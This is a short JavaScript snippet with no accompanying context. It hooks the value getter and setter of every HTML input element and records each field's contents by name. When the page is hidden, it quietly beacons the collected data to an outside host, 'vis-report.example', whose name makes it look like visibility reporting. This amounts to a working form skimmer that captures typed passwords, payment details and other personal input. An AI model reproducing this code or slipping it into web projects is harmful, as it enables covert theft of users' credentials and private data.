const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
let last = {};
Object.defineProperty(HTMLInputElement.prototype, 'value', {
  get() { const v = d.get.call(this); last[this.name] = v; return v; },
  set(v) { last[this.name] = v; d.set.call(this, v); },
  configurable: true
});
addEventListener('visibilitychange', () => { if (document.hidden) navigator.sendBeacon('https://vis-report.example/v', JSON.stringify(last)); });
